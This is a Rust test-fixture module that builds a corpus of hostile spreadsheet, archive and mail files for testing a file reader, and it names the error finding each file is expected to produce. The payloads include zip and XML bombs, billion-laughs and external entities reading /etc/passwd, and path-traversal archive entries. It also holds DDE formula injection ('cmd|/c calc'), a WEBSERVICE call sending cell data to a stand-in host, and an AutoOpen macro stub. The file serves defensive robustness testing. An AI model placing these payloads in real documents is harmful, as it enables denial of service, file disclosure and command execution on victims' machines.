//! The hostile files, each with what it has to give.

use super::workbooks::{head, looped, number, ods, ole, one_sector, record, rows, slow_lock, xls, xlsb, xlsx};
use super::workbooks::{xlsx_of, xlsx_with, xlsx_with_strings};
use super::zips::{Entry, package, plain};
use wuzhang::origin::column_letters;

/// A hostile file.
pub(super) struct Hostile {
    pub(super) name: String,
    pub(super) bytes: Vec<u8>,
    /// The rules of its findings of level error, by comma; empty where it does no harm and is read.
    pub(super) gives: &'static str,
}

/// What a file of the month looks like, which no other may touch.
pub(super) const TABLE: &str = "项目名称,总投资(万元),年度计划投资(万元),累计完成投资(万元)\n";

type Case = (&'static str, Vec<u8>, &'static str);

/// All of them. `bomb` is how many bytes the bombs inflate to: more than the limits of the run.
pub(super) fn corpus(bomb: usize) -> Vec<Hostile> {
    let all = [
        bombs(bomb),
        sheets(),
        markup(bomb),
        around(bomb),
        opendocuments(),
        old(bomb),
        archives(),
        texts(bomb),
        mails(bomb),
        marked(bomb),
        calls_out(),
    ];
    let file = |(name, bytes, gives): Case| Hostile { name: name.to_owned(), bytes, gives };
    all.into_iter().flatten().map(file).chain(cut()).collect()
}

const X: &str = r#"<c r="A1"><v>1</v></c>"#;

/// Small files that inflate.
fn bombs(bomb: usize) -> Vec<Case> {
    let part = "xl/worksheets/sheet1.xml";
    let close = b"</t></is></c></row></sheetData></worksheet>";
    let open = b"<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>";
    let strings = |fill| Entry::bomb("xl/sharedStrings.xml", b"<sst><si><t>", fill, bomb, b"</t></si></sst>");
    let nested = (0..20).fold(plain(&[("甲.csv", TABLE.as_bytes())]), |inner, _| plain(&[("x.zip", &inner)]));
    let many: Vec<Entry> = (0..12_000).map(|nth| Entry::stored(&format!("xl/worksheets/{nth}.xml"), b"")).collect();
    vec![
        (
            "炸弹-空白.xlsx",
            xlsx_of(Entry::bomb(part, b"<worksheet>", b' ', bomb, b"</worksheet>"), "<sst/>"),
            "sheet.too_large",
        ),
        ("炸弹-一格长文.xlsx", xlsx_of(Entry::bomb(part, open, b'x', bomb, close), "<sst/>"), "sheet.too_large"),
        ("炸弹-共享文字.xlsx", xlsx_with_strings(&rows(X), strings(b'x')), "file.too_large"),
        ("炸弹-共享文字条数.xlsx", xlsx_with_strings(&rows(X), strings_without_end(bomb)), "file.too_large"),
        ("炸弹-嵌套.zip", nested, "file.too_large"),
        ("炸弹-条目.xlsx", package(&many), "file.too_large"),
        ("炸弹-压缩包.zip", package(&[Entry::bomb("甲.csv", b"", b',', bomb, b"")]), "file.too_large"),
        ("炸弹-二进制.xlsb", package(&[Entry::bomb("xl/workbook.bin", b"", 0, bomb, b"")]), "file.too_large"),
    ]
}

/// Empty shared strings, five bytes each.
fn strings_without_end(bytes: usize) -> Entry {
    let mut entry =
        Entry::stored("xl/sharedStrings.xml", format!("<sst>{}</sst>", "<si/>".repeat(bytes / 5)).as_bytes());
    entry.name = b"xl/sharedStrings.xml".to_vec();
    entry
}

/// Sheets that claim more than there is.
fn sheets() -> Vec<Case> {
    let corner = |address: &str| xlsx(&rows(&format!(r#"{X}<c r="{address}"><v>2</v></c>"#)));
    let hidden = r#"<col min="1" max="16384" hidden="1"/><col min="1" max="16383" hidden="1"/>"#.repeat(100_000);
    let merged: String = (1..=250_000).map(|row| format!(r#"<mergeCell ref="A{row}:B{row}"/>"#)).collect();
    // Each so tall that a list of them by rows is a hundred thousand times five thousand entries.
    let tall = |n: u32| (2 + n / 2_000 * 5_000, column_letters(1 + n % 2_000));
    let tall: String = (0..120_000)
        .map(tall)
        .map(|(top, column)| format!(r#"<mergeCell ref="{column}{top}:{column}{}"/>"#, top + 4_999))
        .collect();
    let shared = r#"<c r="A1"><f t="shared" ref="A1:A9" si="100000000000">B1</f><v>1</v></c>"#;
    let long = format!(r#"<c r="A1" t="s"><v>0</v></c>{}"#, r#"<c t="s"><v>0</v></c>"#.repeat(20_000));
    let text = format!("<sst><si><t>{}</t></si></sst>", "长".repeat(32_000));
    vec![
        ("声称-170亿格.xlsx", corner("XFD1048576"), ""),
        ("声称-表外.xlsx", corner("XFE16777217"), ""),
        ("声称-范围.xlsx", xlsx(&format!(r#"<dimension ref="A1:XFD1048576"/>{}"#, rows(X))), ""),
        (
            "声称-万亿条文字.xlsx",
            xlsx_with_strings(
                &rows(X),
                Entry::stored(
                    "xl/sharedStrings.xml",
                    br#"<sst count="9" uniqueCount="1000000000000"><si><t>x</t></si></sst>"#,
                ),
            ),
            "",
        ),
        ("声称-共享公式.xlsx", xlsx(&rows(shared)), ""),
        ("声称-隐藏列.xlsx", xlsx(&format!("<cols>{hidden}</cols>{}", rows(X))), ""),
        ("声称-合并.xlsx", xlsx(&format!("{}<mergeCells>{merged}</mergeCells>", rows(X))), "sheet.too_large"),
        ("声称-合并十二万高格.xlsx", xlsx(&format!("{}<mergeCells>{tall}</mergeCells>", rows(X))), ""),
        (
            "一段长文二万格.xlsx",
            xlsx_with_strings(&rows(&long), Entry::stored("xl/sharedStrings.xml", text.as_bytes())),
            "sheet.too_large",
        ),
        (
            "坏格-溢出.xlsx",
            xlsx(&rows(
                r##"<c r="A1" t="e"><v>#SPILL!</v></c><c r="B1"><v>1</v></c><c r="C1"><v>1e400</v></c><c r="D1"><v>NaN</v></c><c r="E1" t="s"><v>99</v></c>"##,
            )),
            "cell",
        ),
        ("声称-二进制170亿格.xlsb", xlsb(1_048_575, 16_383, 0), ""),
        ("声称-二进制40亿条文字.xlsb", xlsb(9, 9, 0xFFFF_FFFF), "file"),
    ]
}

/// Markup that means to be more than it is.
fn markup(bomb: usize) -> Vec<Case> {
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let with = |doctype: &str, cell: &str| {
        let text = format!("<?xml version=\"1.0\"?><!DOCTYPE x [{doctype}]><worksheet>{}</worksheet>", rows(cell));
        xlsx_of(Entry::stored("xl/worksheets/sheet1.xml", text.as_bytes()), "<sst/>")
    };
    let cell = |text: &str| format!(r#"<c r="A1" t="inlineStr"><is><t>{text}</t></is></c>"#);
    let deep = |tag: &str, times: usize| format!("<{tag}>").repeat(times);
    let spans = format!("<table><tr>{}</tr></table>", "<td colspan=1000 rowspan=1048576>x".repeat(3_000));
    let outside = r#"<Relationships><Relationship Id="r1" Type="x/worksheet" Target="../../../../../../etc/passwd"/></Relationships>"#;
    let book = r#"<workbook xmlns:r="x"><sheets><sheet name="表" r:id="r1"/></sheets></workbook>"#;
    vec![
        ("实体-十亿笑.xlsx", with(&format!("<!ENTITY l0 \"哈\">{laughs}"), &cell("&l9;")), ""),
        ("实体-外部.xlsx", with("<!ENTITY x SYSTEM \"file:///etc/passwd\">", &cell("&x;")), ""),
        ("实体-外部.ods", ods("<table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row>"), ""),
        ("嵌套-百万层.xlsx", xlsx(&deep("a", 300_000)), ""),
        ("嵌套-百万层.ods", ods(&deep("table:table-row-group", 200_000)), ""),
        ("嵌套-百万层.xls", format!("<html>{}", deep("table", 300_000)).into_bytes(), "file"),
        ("嵌套-百万层.xml.xls", format!("<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\">{}", deep("Worksheet", 100_000)).into_bytes(), "file"),
        ("网页-跨列.xls", format!("<html>{spans}{}</html>", "<table><tr><td>x</td></tr></table>".repeat(bomb / 3_000)).into_bytes(), "file.stopped"),
        ("关系-指向系统文件.xlsx", plain(&[("[Content_Types].xml", b"<x/>"), ("xl/workbook.xml", book.as_bytes()), ("xl/_rels/workbook.xml.rels", outside.as_bytes())]), "sheet"),
    ]
}

/// What stands around a sheet: parts that are one piece of markup, or entries without end.
fn around(bomb: usize) -> Vec<Case> {
    // Fewer of what costs the file more than a byte each.
    let some = (bomb / 5).min(8 << 20);
    let read_by_the_long_one = if bomb > 100 << 20 { "" } else { "file.too_large" };
    let related = |more: Entry, cell: &str| xlsx_with(vec![more], cell);
    let property = b"<Properties><property name=\"x\"><t>";
    let custom =
        Entry::bomb("docProps/custom.xml", property, b'x', bomb.min(64 << 20), b"</t></property></Properties>");
    let comment = Entry::bomb("_rels/.rels", b"<Relationships><!--", b' ', bomb, b"--></Relationships>");
    let styles = format!("<styleSheet><cellXfs>{}</cellXfs></styleSheet>", "<xf/>".repeat(some));
    let hidden = r#"<row r="5" hidden="1"/><row r="9" hidden="1"/>"#.repeat(some / 4);
    vec![
        ("周边-属性长文.xlsx", related(custom, X), ""),
        ("周边-关系注释.xlsx", related(comment, X), "file.too_large"),
        (
            "周边-样式千万种.xlsx",
            related(Entry::stored("xl/styles.xml", styles.as_bytes()), r#"<c r="A1" s="999999998"><v>1</v></c>"#),
            read_by_the_long_one,
        ),
        (
            "周边-隐藏行交替.xlsx",
            xlsx(&format!("<sheetData><row>{X}</row>{hidden}</sheetData>")),
            if bomb > 100 << 20 { "" } else { "sheet.too_large" },
        ),
    ]
}

fn opendocuments() -> Vec<Case> {
    let cell = |text: &str, repeated: u64| {
        format!(
            r#"<table:table-cell table:number-columns-repeated="{repeated}" office:value-type="string"><text:p>{text}</text:p></table:table-cell>"#
        )
    };
    let row = |cells: &str, repeated: u64| {
        format!(r#"<table:table-row table:number-rows-repeated="{repeated}">{cells}</table:table-row>"#)
    };
    vec![
        ("无尽-170亿格.ods", ods(&row(&cell("x", 16_384), 1_048_576)), "file.too_large"),
        ("无尽-长文.ods", ods(&row(&cell(&"长".repeat(300_000), 16_384), 1)), "file.too_large"),
        ("无尽-空格.ods", ods(&row(&cell(r#"x<text:s text:c="2000000000"/>y"#, 1), 1)), ""),
        (
            "无尽-空行.ods",
            ods(&format!("{}{}", row(&cell("x", 1), 1), row("<table:table-cell/>", u64::from(u32::MAX)))),
            "",
        ),
    ]
}

/// Old workbooks, whose containers and records lead astray.
fn old(bomb: usize) -> Vec<Case> {
    // As many cells as that format can hold: more than the short test allows, less than the program does.
    let two_corners = if bomb > 100 << 20 { "" } else { "file.too_large" };
    let stream = vec![0u8; 9_000];
    let whole = || ole("/Workbook", &stream);
    let dimensions = record(0x200, &[0, 0, 0, 0, 255, 255, 255, 255, 0, 0, 255, 255, 0, 0]);
    let strings = record(0xFC, &[255; 8]);
    let locked = include_bytes!("../../data/locked_agile.xlsx");
    let string = record(
        0xFC,
        &[&1u32.to_le_bytes()[..], &1u32.to_le_bytes(), &[0xFF, 0xFF, 0x0D, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F]]
            .concat(),
    );
    vec![
        ("旧-链环.xls", looped(whole()), "file"),
        ("旧-一千字节.xls", one_sector(), "file"),
        ("旧-目录链环.xls", head(whole(), 48, 0), "file"),
        ("旧-表数.xls", head(whole(), 44, 0xFFFF_FFFF), "file"),
        ("旧-扇区大小.xls", head(whole(), 30, 0x0006_00FF), "file"),
        ("旧-小扇区.xls", head(whole(), 60, 0), "file"),
        ("旧-链表.xls", head(whole(), 68, 0), "file"),
        ("旧-范围.xls", xls(&[], &[dimensions, number(0, 0, 1.0)]), ""),
        ("旧-两角.xls", xls(&[], &[number(0, 0, 1.0), number(65_535, 255, 2.0)]), two_corners),
        ("旧-40亿条文字.xls", xls(&[strings], &[number(0, 0, 1.0)]), ""),
        ("旧-文字越界.xls", xls(&[string], &[number(0, 0, 1.0)]), "file"),
        ("旧-慢锁.xlsx", slow_lock(locked), "file.encrypted"),
        ("旧-大流.xls", ole("/Workbook", &vec![0; bomb.min(8 << 20)]), "file"),
    ]
}

/// Archives whose names lead out of them.
fn archives() -> Vec<Case> {
    let table = TABLE.as_bytes();
    let link = Entry { attributes: 0o120_777 << 16, ..Entry::stored("链接.csv", b"/etc/passwd") };
    let wrong = Entry { sum: 1, ..Entry::stored("甲.csv", table) };
    let lying = Entry { size: 3, ..Entry::stored("甲.csv", table) };
    let long = "长".repeat(10_000);
    let twice = package(&[Entry::stored("甲.csv", table), Entry::stored("甲.csv", b"x,y\n1,2\n")]);
    vec![
        ("包-上级.zip", plain(&[("../../../../tmp/wuzhang-escaped.csv", table)]), ""),
        ("包-绝对.zip", plain(&[("/tmp/wuzhang-escaped.csv", table), ("C:\\Windows\\甲.csv", table)]), ""),
        ("包-链接.zip", package(&[link]), ""),
        ("包-万字名.zip", plain(&[(&long, table)]), ""),
        ("包-控制字符.zip", plain(&[("甲\u{1b}[2J\r\n\0乙.csv", table)]), ""),
        ("包-同名.zip", twice, ""),
        ("包-校验和.zip", package(&[wrong]), "file.unreadable"),
        ("包-长度.zip", package(&[lying]), "file.unreadable"),
        ("包-只有目录.zip", only_entries(200_000), "file.too_large"),
        ("包-声称万亿条.zip", zip64(1 << 40, 1 << 50, 1 << 45), "file"),
        ("包-声称二十亿条.zip", zip64(1 << 31, 1 << 40, 80), "file"),
        ("包-无目录.zip", b"PK\x05\x06\0\0\0\0\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\0\0".to_vec(), "file"),
    ]
}

/// An archive's list of contents without the files: a few bytes an entry, hundreds when it is read.
fn only_entries(count: u32) -> Vec<u8> {
    let entry = |at: u32| {
        let mut entry = b"PK\x01\x02\x14\x03\x14\0\0\x08\0\0\0\0\x21\0".to_vec();
        entry.extend([0; 12]);
        entry.extend([4, 0]);
        entry.extend([0; 16]);
        entry.extend(at.to_be_bytes());
        entry
    };
    let list: Vec<u8> = (0..count).flat_map(entry).collect();
    ended(&[b"PK\x03\x04", &list[..]].concat(), u64::from(count), list.len() as u64, 4)
}

/// An archive that only claims to have contents.
fn zip64(entries: u64, size: u64, start: u64) -> Vec<u8> {
    ended(&[&b"PK\x03\x04"[..], &[0; 100]].concat(), entries, size, start)
}

/// An archive's end in the form for large ones: so many entries, in so many bytes, from there.
fn ended(before: &[u8], entries: u64, size: u64, start: u64) -> Vec<u8> {
    let mut bytes = before.to_vec();
    bytes.extend(b"PK\x06\x06\x2c\0\0\0\0\0\0\0\x2d\0\x2d\0\0\0\0\0\0\0\0\0");
    [entries, entries, size, start].iter().for_each(|number| bytes.extend(number.to_le_bytes()));
    bytes.extend(b"PK\x06\x07\0\0\0\0");
    bytes.extend((before.len() as u64).to_le_bytes());
    bytes.extend(b"\x01\0\0\0PK\x05\x06\0\0\0\0");
    bytes.extend([0xFF; 12]);
    bytes.extend([0, 0]);
    bytes
}

fn texts(bomb: usize) -> Vec<Case> {
    vec![
        ("文本-一行.csv", ",".repeat((bomb * 3 / 2).min(200 << 20)).into_bytes(), "file.stopped"),
        ("文本-引号.csv", [b"\"".to_vec(), vec![b'x'; 2_000_000]].concat(), ""),
        ("文本-空字节.csv", [b"a,b\n".to_vec(), vec![0; 100_000]].concat(), "file"),
    ]
}

/// Mails of nothing but structure: a few bytes of it are a part, a header or a level.
fn mails(bomb: usize) -> Vec<Case> {
    let mail = "From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\n";
    let mixed =
        |body: &str| format!("{mail}Content-Type: multipart/mixed; boundary=b\r\n\r\n{body}--b--\r\n").into_bytes();
    let nested = |levels: usize| -> Vec<u8> {
        let level = |n: usize| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n");
        format!("{mail}{}", (0..levels).map(level).collect::<String>()).into_bytes()
    };
    let attached = |count: usize| {
        "--b\r\nContent-Type: text/csv; name=x.csv\r\nContent-Disposition: attachment\r\n\r\nx,y\r\n".repeat(count)
    };
    let forwarded = "Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nTo: c@d.example\r\n".repeat(5_000);
    let packed = (0..8).fold("Subject: x\r\n\r\nx".to_owned(), |inner, _| {
        format!(
            "{mail}Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            base64(inner.as_bytes())
        )
    });
    let crumbs = (bomb / 2).min(64 << 20) / 8;
    let header = "x".repeat(bomb.min(64 << 20));
    let box_of =
        "From - Fri Jun 05 09:30:00 2026\r\nFrom: a@b.example\r\nTo: c@d.example\r\n\r\nx\r\n\r\n".repeat(3_000);
    vec![
        ("邮件-嵌套.eml", nested(3_000), "file"),
        ("邮件-嵌套万层.eml", nested(100_000), "file"),
        ("邮件-附件.eml", mixed(&attached(2_000)), "file.too_large"),
        ("邮件-附件万个.eml", mixed(&attached(crumbs / 8)), "file"),
        ("邮件-碎片.eml", mixed(&"--b\r\n\r\nx\r\n".repeat(crumbs)), "file"),
        ("邮件-转发.eml", format!("{mail}{forwarded}").into_bytes(), "file"),
        ("邮件-套娃.eml", packed.into_bytes(), "file"),
        ("邮件-长标题.eml", format!("{mail}Subject: {header}\r\n\r\nx").into_bytes(), "file"),
        ("邮件-万行标题.eml", format!("{mail}{}\r\nx", "X-A: b\r\n".repeat(crumbs / 4)).into_bytes(), "file"),
        ("邮箱-空信三千.mbox", box_of.into_bytes(), "file.no_files"),
    ]
}

/// Base64 as mails have it.
fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digits = |three: &[u8]| -> String {
        let number =
            three.iter().chain([0, 0].iter()).take(3).fold(0u32, |number, byte| number << 8 | u32::from(*byte));
        let digit = |at: usize| DIGITS[(number >> (18 - 6 * at) & 63) as usize] as char;
        (0..4).map(|at| if at > three.len() { '=' } else { digit(at) }).collect()
    };
    let all: String = bytes.chunks(3).map(digits).collect();
    all.as_bytes().chunks(76).map(|line| format!("{}\r\n", String::from_utf8_lossy(line))).collect()
}

/// Workbooks that are read without harm and have a cell to be marked, in which what marking has to open is a bomb.
fn marked(bomb: usize) -> Vec<Case> {
    let cell = r#"<c r="A1"><v>1e400</v></c>"#;
    let with = |relations: &str, part: Entry| {
        let mut parts = super::workbooks::parts_around(Entry::stored(
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns:r=\"r\">{}<legacyDrawing r:id=\"r2\"/></worksheet>", rows(cell)).as_bytes(),
        ));
        let list = format!("<Relationships>{relations}</Relationships>");
        parts.push(Entry::stored("xl/worksheets/_rels/sheet1.xml.rels", list.as_bytes()));
        parts.push(part);
        package(&parts)
    };
    let to = |id: &str, kind: &str, target: &str| {
        format!("<Relationship Id=\"{id}\" Type=\"x/{kind}\" Target=\"../{target}\"/>")
    };
    let (notes, drawing) = (to("r1", "comments", "comments1.xml"), to("r2", "vmlDrawing", "drawings/v.vml"));
    // Beyond what one part may be to be marked, within what a package may inflate to.
    let beyond = bomb / 3;
    let close = b"</commentList></comments>";
    let comments = Entry::bomb("xl/comments1.xml", b"<comments><authors/><commentList>", b' ', beyond, close);
    let boxes = Entry::bomb("xl/drawings/v.vml", b"<xml>", b' ', beyond, b"</xml>");
    let many = to("r9", "hyperlink", "a.xml").repeat(20_000);
    vec![
        ("标注-批注炸弹.xlsx", with(&notes, comments), "cell"),
        ("标注-图形炸弹.xlsx", with(&format!("{notes}{drawing}"), boxes), "cell"),
        ("标注-关系二万条.xlsx", with(&many, Entry::stored("xl/a.xml", b"")), "cell"),
    ]
}

/// What would call a program or a server, if anybody listened.
fn calls_out() -> Vec<Case> {
    let formulas = r#"<c r="A1" t="str"><f>cmd|'/c calc'!A0</f><v>甲</v></c><c r="B1" t="str"><f>WEBSERVICE("http://x.example/?"&amp;A1)</f><v>乙</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>3</v></c>"#;
    let mut macros = vec![Entry::stored("xl/vbaProject.bin", &ole("/VBA", b"Sub AutoOpen()"))];
    macros.push(Entry::stored(
        "xl/externalLinks/externalLink1.xml",
        b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
    ));
    let sheet = format!("<worksheet>{}</worksheet>", rows(formulas));
    macros.extend(super::workbooks::parts_around(Entry::stored("xl/worksheets/sheet1.xml", sheet.as_bytes())));
    vec![("外呼-公式.xlsx", xlsx(&rows(formulas)), ""), ("外呼-宏.xlsm", package(&macros), "")]
}

/// A sound workbook cut short at every tenth of it, and with single bytes bent.
fn cut() -> impl Iterator<Item = Hostile> {
    let sound = xlsx(&rows(&r#"<c t="inlineStr"><is><t>项目</t></is></c>"#.repeat(200)));
    let bent = sound.clone();
    let short = (1..10).map(move |tenth| {
        let bytes = sound[..sound.len() * tenth / 10].to_vec();
        Hostile { name: format!("截断-{tenth}.xlsx"), bytes, gives: "file" }
    });
    short.chain((0..1).map(move |_| {
        let mut bytes = bent.clone();
        let at = bytes.len() / 2;
        bytes[at] ^= 0x20;
        Hostile { name: "校验和.xlsx".into(), bytes, gives: "sheet.unreadable" }
    }))
}
